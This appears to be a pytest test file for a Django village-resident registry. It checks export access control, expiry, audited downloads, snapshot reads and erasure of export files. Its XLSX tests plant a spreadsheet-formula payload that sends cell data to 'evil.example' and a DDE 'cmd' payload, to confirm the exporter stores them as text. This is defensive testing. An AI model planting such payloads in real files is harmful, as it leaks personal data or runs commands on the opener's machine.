"""Exports are personal data (issue 14): who may download a job's file, unguessable job addresses, expiry,
audited downloads, text-safe XLSX cells, one consistent snapshot read while phones sync, uploads and export
files cleaned up, erasure deletes earlier export files."""

from __future__ import annotations

import datetime
import threading
import time
import uuid

import pytest

from ngoso.people.models import Ethnicity, Household, Resident
from tests import factories

TODAY = datetime.date.today()


def wait(job, seconds=120):
    for _ in range(int(seconds / 0.05)):
        job.refresh_from_db()
        if job.status in ("done", "failed"):
            return job
        time.sleep(0.05)
    raise AssertionError(f"job {job.pk} did not finish")


@pytest.fixture
def team(people, users, area):
    return factories.village_team(area, users, [people.h1])


def many_households(village, n, prefix="X"):
    kinh = Ethnicity.objects.get(code="01")
    hh = Household.objects.bulk_create([Household(code=f"{prefix}{i:05d}", village=village, address=f"Số {i}",
                                                  phone="0912345678") for i in range(n)])
    Resident.objects.bulk_create([Resident(household=h, full_name=f"Người Số {h.code}", sex="female",
                                           birth_year=1960 + (i % 50), ethnicity=kinh, relation="head",
                                           phone="0987654321") for i, h in enumerate(hh)])


# ----------------------------------------------------------------------------- 3. exports while phones sync

@pytest.mark.django_db(transaction=True)  # real job threads, a real sync loop, each with its own connection
def test_exports_succeed_while_a_phone_syncs_and_two_run_at_once(people, users, team, area):
    """Before: the export's progress write (and two exports' writes) upgraded a long read on a WAL snapshot
    that a sync had moved past: "database is locked" at once, whatever the busy timeout."""
    from django.db import connection

    from ngoso.people.services import export_area
    from ngoso.sync import services as sync
    from ngoso.sync.models import DeviceToken
    from ngoso.visits.models import Visit

    many_households(area.va1, 6000)
    dev, _ = DeviceToken.issue(users.member, "Redmi 9A")
    stop, pushed, errors = threading.Event(), [], []

    def phone():
        try:
            while not stop.is_set():
                rec = {"type": "visit", "uuid": str(uuid.uuid4()), "household": "H1",
                       "visited_on": TODAY.isoformat(), "present": [str(people.r1.uuid)], "note": "Zalo",
                       "results": [{"resident": str(people.r1.uuid), "skill": "zalo-messaging", "level": 2}]}
                out = sync.push(dev, {"sent_at": datetime.datetime.now(datetime.timezone.utc).isoformat(),
                                      "records": [rec]})
                assert out["counts"]["created"] == 1, out
                pushed.append(1)
                time.sleep(0.01)
        except Exception as exc:  # noqa: BLE001 - reported below
            errors.append(repr(exc))
        finally:
            connection.close()

    syncing = threading.Thread(target=phone)
    syncing.start()
    try:
        time.sleep(0.3)
        running = [export_area(area.a, users.commune_a), export_area(area.va1, users.province)]
        done = [wait(j) for j in running]
    finally:
        stop.set()
        syncing.join(30)
    assert not errors, errors
    assert [j.status for j in done] == ["done", "done"], [j.error_detail or j.error for j in done]
    assert done[0].result["rows"] == 6003 and done[1].result["rows"] == 6002  # commune A; village va1
    assert len(pushed) > 0 and Visit.objects.count() == len(pushed)


@pytest.mark.django_db(transaction=True)
def test_an_export_is_one_snapshot_while_households_are_added(people, users, area):
    """Households added while the export runs are either all in the file or not at all: the residents it
    counts and the rows it writes come from the same instant."""
    from django.db import connection, transaction

    from ngoso.core import jobs

    many_households(area.va2, 4000, prefix="S")
    kinh = Ethnicity.objects.get(code="01")
    stop, added = threading.Event(), []

    def writer():
        try:
            i = 0
            while not stop.is_set():
                with transaction.atomic():
                    h = Household.objects.create(code=f"N{i:05d}", village=area.va2)
                    Resident.objects.create(household=h, full_name=f"Người Mới {i}", sex="male", birth_year=1990,
                                            ethnicity=kinh, relation="head")
                added.append(i)
                i += 1
                time.sleep(0.005)
        finally:
            connection.close()

    t = threading.Thread(target=writer)
    t.start()
    try:
        time.sleep(0.2)
        job = wait(jobs.submit("export_people", {"place": area.a.code, "user_id": users.commune_a.pk},
                               user=users.commune_a, place_path=area.a.path))
    finally:
        stop.set()
        t.join(30)
    assert job.status == "done", job.error_detail or job.error
    assert len(added) > 0
    # every household in commune A has at least one resident, so rows == residents at one instant
    assert job.result["rows"] == job.result["residents"]


@pytest.mark.django_db(transaction=True)
def test_read_snapshot_takes_no_write_lock_sees_one_instant_and_refuses_writes(people):
    from django.db import DatabaseError, connection, transaction

    from ngoso.core.snapshot import read_snapshot

    connection.close()  # a fresh connection: connecting must not bring back BEGIN IMMEDIATE
    done = []

    def writer():
        try:
            with transaction.atomic():
                Household.objects.filter(pk=people.h1.pk).update(alley="Z")
            done.append(True)
        finally:
            connection.close()

    with read_snapshot():
        assert Household.objects.filter(alley="Z").count() == 0
        t = threading.Thread(target=writer)
        t.start()
        t.join(8)
        assert done == [True]  # the writer did not wait for the snapshot to end
        assert Household.objects.filter(alley="Z").count() == 0  # the snapshot still sees its own instant
        with pytest.raises(DatabaseError):
            Household.objects.filter(pk=people.h2.pk).update(alley="Y")  # read-only: a clear error, not "locked"
    assert Household.objects.filter(alley="Z").count() == 1
    Household.objects.filter(pk=people.h2.pk).update(alley="Y")  # writable again afterwards
    assert Household.objects.get(pk=people.h2.pk).alley == "Y"


# ----------------------------------------------------------------------------- 2. every XLSX cell is text-safe

FORMULA = '=HYPERLINK("http://evil.example/?"&S2&T2,"Bấm vào đây")'


def all_cells(data_or_path):
    import io

    from openpyxl import load_workbook

    src = io.BytesIO(data_or_path) if isinstance(data_or_path, bytes) else data_or_path
    wb = load_workbook(src)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_safe_cell_rules():
    from openpyxl import Workbook

    from ngoso.core import xlsx

    ws = Workbook(write_only=True).create_sheet("x")
    for risky in ("=1+1", "+84912", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "#N/A"):
        c = xlsx.cell(ws, risky)
        assert c.data_type == "s" and c.value == risky and c.quotePrefix
    assert xlsx.cell(ws, -12.5) == -12.5 and xlsx.cell(ws, -3) == -3  # a negative NUMBER stays a number
    assert xlsx.cell(ws, "Nguyễn Thị Lý") == "Nguyễn Thị Lý"  # plain text stays a plain value (fast path)
    assert xlsx.cell(ws, float("nan")) is None and xlsx.cell(ws, float("inf")) is None
    assert xlsx.cell(ws, "Thôn\x0bĐông\x00 số\x1f 3\x07") == "Thôn Đông số  3"
    assert len(xlsx.cell(ws, "x" * 100_000)) == xlsx.MAX_CELL_CHARS


def test_export_writes_formulas_as_text_and_survives_control_characters(people, users, tmp_path):
    """Before: the name below was a live formula in the file, and the vertical tab / NUL in an address made
    openpyxl raise IllegalCharacterError, so every export covering that household failed."""
    from ngoso.people.io import export_people, import_people

    for r, name in ((people.r1, FORMULA), (people.r2, "@cmd|' /C calc'!A0")):
        r.full_name = name
        r.save()  # through save(): the derived search name follows
    from django.db import connection

    # a NUL where the database can hold one (SQLite; PostgreSQL refuses it in text), else another control
    # character that XLSX cannot hold either
    bad = "\x00" if connection.vendor == "sqlite" else "\x01"
    Household.objects.filter(pk=people.h1.pk).update(address=f"Xóm\x0bĐông{bad} ngõ 3", alley="-1+1",
                                                     latitude=-12.5)
    sqlite = connection.vendor == "sqlite"
    if sqlite:  # SQLite stores a value longer than the field (PostgreSQL refuses it): cut to a cell's limit
        Resident.objects.filter(pk=people.r3.pk).update(full_name="N" * 100_000)
    out = tmp_path / "a.xlsx"
    assert export_people(users.commune_a.place, users.commune_a, out) == 3
    cells = all_cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    by_value = {c.value: c for c in cells}
    assert by_value[FORMULA].data_type == "s" and by_value[FORMULA].quotePrefix
    assert by_value["@cmd|' /C calc'!A0"].data_type == "s"
    assert by_value["-1+1"].data_type == "s"
    assert "Xóm Đông ngõ 3" in by_value and by_value[-12.5].data_type == "n"
    if sqlite:
        assert any(isinstance(v, str) and len(v) == 32767 and v.startswith("NNN") for v in by_value)
    # the values come back unchanged through the import (the export still round-trips)
    Resident.objects.filter(pk=people.r3.pk).update(full_name="Hoàng Văn Nông")
    Household.objects.filter(pk=people.h1.pk).update(address="Xóm Đông ngõ 3", latitude=None)
    out2 = tmp_path / "b.xlsx"
    export_people(users.commune_a.place, users.commune_a, out2)
    try:
        result = import_people(out2.read_bytes(), "b.xlsx", users.commune_a)
    except Exception as exc:
        raise AssertionError([str(e) for e in getattr(exc, "errors", [])]) from exc
    assert result.residents_updated == 0 and result.households_updated == 0
    assert Resident.objects.get(pk=people.r1.pk).full_name == FORMULA


def test_every_xlsx_writer_writes_no_formula(people, users, area):
    """Village names and other texts reach the template, the dashboard, the poverty and radio reports."""
    from ngoso.people.io import template_workbook
    from ngoso.poverty import services as poverty
    from ngoso.insights import dashboard

    area.va1.name = FORMULA
    area.va1.save()
    files = {"template": template_workbook(users.commune_a),
             "dashboard": dashboard.to_xlsx(dashboard.dashboard(area.a)),
             "coverage": poverty.coverage_xlsx(poverty.coverage(area.a))}
    for name, data in files.items():
        cells = all_cells(data)
        assert not [c.coordinate for c in cells if c.data_type == "f"], name
    assert any(c.value == FORMULA and c.data_type == "s" for c in all_cells(files["template"]))
    assert any(c.value == FORMULA and c.data_type == "s" for c in all_cells(files["coverage"]))


# ----------------------------------------------------------------------------- 1. who may download, expiry, audit

def make_export(user, place):
    from ngoso.core import jobs

    job = jobs.submit("export_people", {"place": place.code, "user_id": user.pk}, user=user, place_path=place.path,
                      background=False)
    assert job.status == "done", job.error_detail or job.error
    return job


def test_only_the_maker_and_higher_staff_may_open_or_download_an_export(people, users, area, client):
    """Before: any user whose area covered the job (a viewer, a member, a radio operator) downloaded a commune
    officer's export at /jobs/<sequential id>/download/."""
    from ngoso.accounts.models import Role, User

    job = make_export(users.commune_a, area.a)
    assert len(job.token) >= 32 and job.token != str(job.pk)
    peer = User.objects.create(username="xa_a2", role=Role.COMMUNE_STAFF, place=area.a, is_staff=True)
    url = f"/jobs/{job.token}/download/"
    for who in (users.viewer, users.member, users.leader, users.radio, users.commune_b, users.nobody, peer):
        client.force_login(who)
        for u in (url, f"/jobs/{job.token}/", f"/jobs/{job.token}/status.json"):
            assert client.get(u).status_code == 404, (who.username, u)
    client.force_login(users.commune_a)
    assert client.get(f"/jobs/{job.pk}/download/").status_code == 404  # the sequential id is no address
    assert client.get(f"/jobs/{job.token}/").status_code == 200
    resp = client.get(url)
    assert resp.status_code == 200 and b"".join(resp.streaming_content)[:2] == b"PK"
    client.force_login(users.province)  # higher staff of that area
    assert client.get(url).status_code == 200
    # the maker who loses the permission to export loses the file too
    users.commune_a.role = Role.VIEWER
    users.commune_a.save()
    client.force_login(users.commune_a)
    assert client.get(url).status_code == 404


def test_every_download_is_audited_with_who_and_how_many(people, users, area, client):
    from ngoso.accounts.models import AuditEntry

    job = make_export(users.commune_a, area.a)
    client.force_login(users.province)
    assert client.get(f"/jobs/{job.token}/download/").status_code == 200
    e = AuditEntry.objects.filter(action="export", changes__download__isnull=False).get()
    assert e.user == users.province and e.place_path == area.a.path
    assert e.changes["residents"] == 3 and e.changes["rows"] == 3 and e.changes["made_by"] == "xa_a"


def exported(job):
    """Where a job's export file lies in the default (file-system) storage ``exports``."""
    from ngoso.core import files

    return files.root("exports") / job.file


def test_an_expired_export_says_so_and_its_file_is_gone(people, users, area, client):
    from pathlib import Path

    from django.utils import timezone

    from ngoso.core.models import Job

    job = make_export(users.commune_a, area.a)
    path = exported(job)
    assert path.exists() and job.expires_at > timezone.now() + datetime.timedelta(hours=23)
    Job.objects.filter(pk=job.pk).update(expires_at=timezone.now() - datetime.timedelta(seconds=1))
    client.force_login(users.commune_a)
    resp = client.get(f"/jobs/{job.token}/download/")
    assert resp.status_code == 410 and "đã hết hạn và đã bị xoá" in resp.content.decode()
    assert not path.exists() and Job.objects.get(pk=job.pk).file == ""
    assert "đã hết hạn" in client.get(f"/jobs/{job.token}/").content.decode()


def test_failed_job_pages_show_a_clear_message_never_a_traceback(people, users, area, client, monkeypatch):
    from ngoso.core import jobs
    from ngoso.people import io

    def boom(*a, **kw):
        raise RuntimeError("disk I/O error at /secret/path/ngoso.sqlite3")

    monkeypatch.setattr(io, "export_people", boom)
    job = jobs.submit("export_people", {"place": area.a.code, "user_id": users.commune_a.pk}, user=users.commune_a,
                      place_path=area.a.path, background=False)
    assert job.status == "failed" and job.error == jobs.UNEXPECTED
    assert "Traceback" in job.error_detail and "/secret/path" in job.error_detail  # for staff, in the admin
    client.force_login(users.commune_a)
    page = client.get(f"/jobs/{job.token}/").content.decode()
    assert "ngoài dự kiến" in page and "Traceback" not in page and "/secret/path" not in page
    assert "Traceback" not in client.get(f"/jobs/{job.token}/status.json").content.decode()
    # a failure the user can act on is told as it is
    gone = jobs.submit("export_people", {"place": "99999", "user_id": users.commune_a.pk}, user=users.commune_a,
                       place_path=area.a.path, background=False)
    assert gone.status == "failed" and "không còn nữa" in gone.error and "Traceback" not in gone.error


def test_job_admin_shows_staff_the_detail(people, users, area, client, monkeypatch):
    from ngoso.core import jobs
    from ngoso.people import io

    monkeypatch.setattr(io, "export_people", lambda *a, **kw: 1 / 0)
    job = jobs.submit("export_people", {"place": area.a.code, "user_id": users.commune_a.pk}, user=users.commune_a,
                      place_path=area.a.path, background=False)
    client.force_login(users.province)
    page = client.get(f"/admin/core/job/{job.pk}/change/").content.decode()
    assert "ZeroDivisionError" in page and job.token not in page


# ----------------------------------------------------------------------------- 4. uploads and files cleaned up

def test_an_import_upload_is_deleted_when_its_job_ends_even_on_failure(area, users, settings):
    from ngoso.core import jobs

    up = jobs.uploads_dir()
    up.mkdir(parents=True, exist_ok=True)
    p = up / f"{uuid.uuid4().hex}.csv"
    p.write_text("x")
    # the import's own code fails before it reads (an account deleted meanwhile): before, the file stayed
    job = jobs.submit("import_people", {"path": str(p), "filename": "x.csv", "user_id": 999999}, user=users.commune_a,
                      place_path=area.a.path, background=False)
    assert job.status == "failed" and not p.exists()


def test_clean_up_deletes_expired_exports_orphans_and_left_over_uploads(people, users, area, settings):
    from pathlib import Path

    from django.utils import timezone

    from ngoso.core import jobs
    from ngoso.core.models import Job

    old = make_export(users.commune_a, area.a)
    fresh = make_export(users.province, area.b)
    Job.objects.filter(pk=old.pk).update(expires_at=timezone.now() - datetime.timedelta(minutes=1))
    root = Path(settings.EXPORT_ROOT)
    orphan = root / "ngoso-07351-killed.part"
    orphan.write_bytes(b"half")
    up = jobs.uploads_dir()
    up.mkdir(parents=True, exist_ok=True)
    left = up / "interrupted.xlsx"
    left.write_bytes(b"x")
    running_upload = up / "running.xlsx"
    running_upload.write_bytes(b"x")
    Job.objects.create(kind="import_people", status=Job.Status.RUNNING, params={"path": str(running_upload)})
    out = jobs.clean_up(grace_seconds=0)
    assert out["expired"] == 1 and out["orphan_exports"] >= 1 and out["orphan_uploads"] >= 1
    assert not exported(old).exists() and Job.objects.get(pk=old.pk).file == ""
    assert exported(fresh).exists()  # still valid
    assert not orphan.exists() and not left.exists() and running_upload.exists()
    # a young orphan is left alone by the default grace (a job may be about to record it)
    young = root / "ngoso-young.xlsx"
    young.write_bytes(b"x")
    jobs.clean_up()
    assert young.exists()
    young.unlink()


def test_cli_clean_up(people, users, area, capsys):
    from ngoso.cli import main

    assert main(["export", "--clean-up"]) == 0
    assert "expired export files" in capsys.readouterr().out


# ----------------------------------------------------------------------------- 5. erasure deletes earlier exports

def test_erasure_deletes_every_earlier_export_file_holding_the_person(people, users, area, client,
                                                                    django_capture_on_commit_callbacks):
    from pathlib import Path

    from ngoso.people.services import erase_resident

    commune = make_export(users.commune_a, area.a)
    village = make_export(users.province, area.va1)
    province = make_export(users.province, area.province)
    former = make_export(users.province, area.old_commune)  # va1 was in this former commune
    other = make_export(users.commune_b, area.b)
    files = [exported(j) for j in (commune, village, province, former, other)]
    assert all(f.exists() for f in files)
    with django_capture_on_commit_callbacks(execute=True):
        erasure = erase_resident(people.r1, done_by="xa_a", reason="yêu cầu")
    assert erasure.exports_deleted == 4
    assert [f.exists() for f in files] == [False, False, False, False, True]
    client.force_login(users.commune_a)
    assert "đã được xoá dữ liệu theo yêu cầu" in client.get(f"/jobs/{commune.token}/").content.decode()
    assert client.get(f"/jobs/{commune.token}/download/").status_code == 410


def test_an_export_running_while_a_resident_is_erased_is_discarded(people, users, area, monkeypatch, settings):
    """The export's snapshot may predate the erasure: its file must not survive it."""
    from pathlib import Path

    from ngoso.core import jobs
    from ngoso.people import io
    from ngoso.people.services import erase_resident

    real = io.export_people

    def export_then_erase(place, user, out, progress, stats, **kw):
        n = real(place, user, out, progress, stats, **kw)
        erase_resident(people.r3, done_by="xa_a")  # committed after the snapshot was read
        return n

    monkeypatch.setattr(io, "export_people", export_then_erase)
    job = jobs.submit("export_people", {"place": area.a.code, "user_id": users.commune_a.pk}, user=users.commune_a,
                      place_path=area.a.path, background=False)
    assert job.status == "failed" and "xoá dữ liệu theo yêu cầu" in job.error and job.file == ""
    assert not list(Path(settings.EXPORT_ROOT).glob(f"*{job.token[:12]}*"))


@pytest.mark.django_db(transaction=True)  # the export runs in a worker thread
def test_export_from_the_place_page_to_the_download(people, users, area, client):
    from ngoso.core.models import Job

    client.force_login(users.commune_a)
    resp = client.post(f"/places/{area.a.code}/export/")
    job = Job.objects.get()
    assert resp.status_code == 302 and resp.url == f"/jobs/{job.token}/"
    wait(job)
    page = client.get(resp.url).content.decode()
    assert f"/jobs/{job.token}/download/" in page and "Mỗi lần tải về đều được ghi lại" in page
    assert client.get(f"/jobs/{job.token}/download/").status_code == 200
    client.force_login(users.viewer)
    assert client.post(f"/places/{area.a.code}/export/").status_code == 403
    assert client.get(f"/jobs/{job.token}/download/").status_code == 404
